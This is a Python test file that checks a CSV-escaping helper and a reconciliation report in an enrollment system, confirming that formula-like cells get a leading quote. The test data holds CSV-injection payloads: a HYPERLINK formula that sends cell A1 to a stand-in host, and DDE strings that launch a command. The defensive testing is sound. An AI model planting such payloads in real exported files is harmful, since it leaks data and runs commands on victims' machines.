"""CSV written for officers never carries a formula (jkn_bus.spreadsheet, OWASP's CSV
injection guidance): a text cell beginning with =, +, -, @, tab or carriage return gets a
single quote in front; everything else is written as it is. The reconciliation report's
cells that come from a kelurahan's file (evidence_ref, reported_by) are escaped."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime

import pytest
from enrollment.app.run_report import REQUEST_CSV_COLUMNS, requests_csv
from hypothesis import given
from hypothesis import strategies as st
from jkn_bus.spreadsheet import FORMULA_STARTS, safe_cell, safe_row


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"klik")',
            '\'=HYPERLINK("http://x.example/?"&A1,"klik")',
        ),
        ("+62812 0000 0001", "'+62812 0000 0001"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_evaluate_gets_a_quote_in_front(
    typed: str, written: str
) -> None:
    assert safe_cell(typed) == written


def test_other_cells_are_written_as_they_are() -> None:
    pid = uuid.uuid4()
    assert safe_row(["AKTA/2026/7", "Lurah Talang Banjar", "a=b", 7, -3, None, pid]) == [
        "AKTA/2026/7", "Lurah Talang Banjar", "a=b", 7, -3, "", pid
    ]  # fmt: skip


@given(st.text(max_size=30))
def test_no_escaped_cell_starts_a_formula_and_the_text_is_kept(text: str) -> None:
    cell = safe_cell(text)

    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_the_reconciliation_report_escapes_what_came_from_the_findings_file() -> None:
    row = dict.fromkeys(REQUEST_CSV_COLUMNS)
    row |= {
        "line": 2,
        "participant_id": "P" + "0" * 24,
        "reason": "meninggal",
        "kelurahan": "1571011001",
        "evidence_ref": '=HYPERLINK("http://x.example","AKTA")',
        "reported_by": "@Lurah",
        "requested_at": datetime(2026, 11, 2, tzinfo=UTC),
        "deactivated": True,
        "effective_date": date(2026, 12, 1),
        "withdrawn": False,
        "replaced_by": [],
    }

    [header, written] = list(csv.reader(io.StringIO(requests_csv([row]))))

    cells = dict(zip(header, written, strict=True))
    assert cells["evidence_ref"] == '\'=HYPERLINK("http://x.example","AKTA")'
    assert cells["reported_by"] == "'@Lurah"
    assert (cells["line"], cells["slot_released_at"], cells["deactivated"]) == ("2", "", "yes")
